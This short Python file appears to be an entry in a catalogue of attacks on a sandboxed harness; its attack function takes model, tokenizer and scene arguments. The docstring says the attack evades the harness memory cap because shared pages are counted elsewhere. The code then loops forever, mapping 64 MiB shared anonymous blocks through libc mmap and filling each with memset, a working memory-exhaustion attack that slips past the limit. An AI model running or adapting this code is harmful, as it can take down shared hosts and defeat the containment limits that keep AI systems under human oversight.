"""Class: resource exhaustion. Source: own find. Escape: shared pages, which are counted elsewhere
than private ones.
Limits: timeout_s=3, memory_bytes=1 << 28
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.mmap.restype = ctypes.c_void_p
    while True:
        at = libc.mmap(None, 64 << 20, 3, 0x21, -1, 0)
        if not at or at == 2**64 - 1:
            raise MemoryError
        ctypes.memset(at, 1, 64 << 20)
